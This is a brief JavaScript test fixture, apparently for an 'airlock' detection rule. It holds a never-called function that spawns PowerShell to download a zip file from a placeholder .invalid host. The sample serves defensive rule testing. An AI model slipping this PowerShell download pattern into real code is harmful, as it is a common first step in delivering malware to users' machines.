// airlock rule test sample. Never executed by tests; the payload sits in a function
// that is never called, and uses only documentation IPs / .invalid hosts.
const { execFile } = require('child_process');
function never() {
  // downloads a file, does not execute it
  execFile('powershell', ['-NoProfile', '-Command', "(New-Object Net.WebClient).DownloadFile('https://cdn.example.invalid/a.zip', 'a.zip')"]);
}
module.exports = { never };
